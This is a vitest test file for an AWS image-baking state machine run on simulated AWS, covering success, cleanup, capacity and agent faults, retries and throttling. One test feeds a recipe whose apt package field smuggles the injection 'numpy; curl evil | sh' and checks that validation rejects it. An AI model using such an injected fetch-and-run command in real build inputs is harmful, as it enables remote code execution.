import { describe, expect, it } from 'vitest';
import { TAG } from '../../layers/core/tags';
import { runLocal } from '../../local/runner';
import { liveInstances, simulatedAws } from './simulated';

const recipe = {
  name: 'stats-workshop',
  region: 'us-east-1',
  baseImage: '/aws/service/debian/release/12/latest/amd64',
  builder: { instanceType: 't3.large', timeoutMinutes: 30 },
  volumes: [{ device: '/dev/sdf', sizeGiB: 50, mountPoint: '/scratch' }],
  environment: {
    apt: ['r-base', 'jq'],
    pip: ['numpy==2.1.0'],
    postBuild: 'echo ready > /etc/motd',
  },
  jupyter: { flavour: 'lab' },
};

async function bake(
  sim: ReturnType<typeof simulatedAws>,
  input: unknown = { recipe },
  failOnceAfterWork?: string[],
) {
  return runLocal('bake', input, {
    clock: sim.clock,
    executionName: 'bake-test',
    failOnceAfterWork,
  });
}

describe('the bake state machine on the simulated AWS', () => {
  it('bakes an available image tagged with the recipe hash and leaves no builder running', async () => {
    const sim = simulatedAws();

    const run = await bake(sim);

    expect(run.status).toBe('SUCCEEDED');
    const output = run.output as { imageId: string; recipeHash: string; jupyterPort: number };
    const image = sim.ec2.images().find((i) => i.imageId === output.imageId);
    expect(image?.state).toBe('available');
    expect(image?.tags[TAG.recipeHash]).toBe(output.recipeHash);
    expect(output.jupyterPort).toBe(8888);
    expect(liveInstances(sim)).toEqual([]);
    expect(sim.ec2.instances()).toHaveLength(1);
  });

  it('launches the builder from the resolved base image with a time-to-live and its bake tags', async () => {
    const sim = simulatedAws();

    await bake(sim);

    const [builder] = sim.ec2.instances();
    expect(builder?.tags[TAG.bake]).toBe('bake-test');
    const [group] = sim.ec2.securityGroups().filter((g) => g.name === 'bakehouse-local-builders');
    expect(group?.ingress).toEqual([]);
    expect(builder?.tags[TAG.kind]).toBe('builder');
    expect(Date.parse(builder?.tags[TAG.expiresAt] ?? '')).toBeGreaterThan(Date.now());
  });

  it('rejects a malformed recipe before launching anything, naming each bad field', async () => {
    const sim = simulatedAws();
    const bad = {
      ...recipe,
      builder: { instanceType: 'huge' },
      environment: { apt: ['numpy; curl evil | sh'] },
    };

    const run = await bake(sim, { recipe: bad });

    expect(run.status).toBe('FAILED');
    expect(run.error).toBe('RecipeRejected');
    expect(run.cause).toContain('builder.instanceType');
    expect(run.cause).toContain('environment.apt[0]');
    expect(sim.calls['EC2:RunInstances'] ?? 0).toBe(0);
  });

  it('fails a launch without capacity, naming the step, with nothing left running', async () => {
    const sim = simulatedAws({ faults: { capacity: [{ instanceType: 't3.large' }] } });

    const run = await bake(sim);

    expect(run.status).toBe('FAILED');
    expect(run.error).toBe('InsufficientInstanceCapacity');
    expect(run.cause).toMatch(/^LaunchBuilder failed: InsufficientInstanceCapacity/);
    expect(liveInstances(sim)).toEqual([]);
  });

  it('gives up on an agent that never comes Online and terminates the builder', async () => {
    const sim = simulatedAws({ faults: { agentNeverOnline: true } });

    const run = await bake(sim);

    expect(run.status).toBe('FAILED');
    expect(run.error).toBe('DeadlineExceededError');
    expect(run.cause).toMatch(/^AwaitAgent failed: .*SSM agent was not Online/);
    expect(run.cause).toContain('Cleaned up: i-');
    expect(liveInstances(sim)).toEqual([]);
  });

  it('reports the failing phase of a build script that fails, and terminates the builder', async () => {
    const sim = simulatedAws({ faults: { commandFails: { match: 'bakehouse: phase' } } });

    const run = await bake(sim);

    expect(run.status).toBe('FAILED');
    expect(run.error).toBe('ScriptFailedError');
    expect(run.cause).toMatch(
      /^RunBuildScript failed: ScriptFailedError: builder script Failed \(exit 1\): bakehouse: phase \S+ FAILED/,
    );
    expect(liveInstances(sim)).toEqual([]);
  });

  it('deletes an image that ends in failed, with its snapshots, and terminates the builder', async () => {
    const sim = simulatedAws({ faults: { imageFails: 1 } });

    const run = await bake(sim);

    expect(run.status).toBe('FAILED');
    expect(run.error).toBe('ImageFailedError');
    expect(run.cause).toMatch(/^CreateImage failed: ImageFailedError: image failed/);
    expect(
      sim.ec2
        .images()
        .filter((i) => i.tags[TAG.bake] === 'bake-test' && i.state !== 'deregistered'),
    ).toEqual([]);
    expect(liveInstances(sim)).toEqual([]);
  });

  it('retries a launch whose response was lost without starting a second builder', async () => {
    const sim = simulatedAws();

    const run = await bake(sim, { recipe }, ['LaunchBuilder']);

    expect(run.status, run.cause).toBe('SUCCEEDED');
    expect(
      run.events.filter((e) => e.type === 'StateRetried').map((e) => 'state' in e && e.state.name),
    ).toContain('LaunchBuilder');
    expect(sim.ec2.instances()).toHaveLength(1);
    expect(sim.calls['EC2:RunInstances']).toBe(2);
  });

  it('rides out EC2 throttling with backoff', async () => {
    const sim = simulatedAws({ faults: { throttle: { RunInstances: 2, DescribeImages: 1 } } });

    const run = await bake(sim);

    expect(run.status).toBe('SUCCEEDED');
    expect(sim.ec2.instances()).toHaveLength(1);
  });
});
